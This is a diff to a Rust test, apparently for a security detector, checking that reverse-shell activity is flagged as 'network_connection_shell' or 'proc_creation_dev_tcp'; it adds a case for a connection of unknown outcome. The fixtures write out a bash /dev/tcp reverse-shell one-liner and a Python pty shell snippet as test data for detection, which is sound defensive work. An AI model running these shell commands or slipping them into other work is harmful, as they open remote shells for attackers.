@@ -72,8 +72,9 @@ fn a_reverse_shell_is_found() {
     let typed = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Success(0));
     let given = exec("/usr/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]);
     let refused = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Failure(111));
+    let under_way = connect("/usr/bin/bash", &["bash"], "127.0.0.1", 4444, Outcome::Unknown);
     let python = ["python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"];
-    for event in [&typed, &refused] {
+    for event in [&typed, &refused, &under_way] {
         assert_eq!(found(std::slice::from_ref(event)), [("network_connection_shell".to_owned(), Level::High)]);
     }
     assert!(names(&[given]).contains(&"proc_creation_dev_tcp".to_owned()));
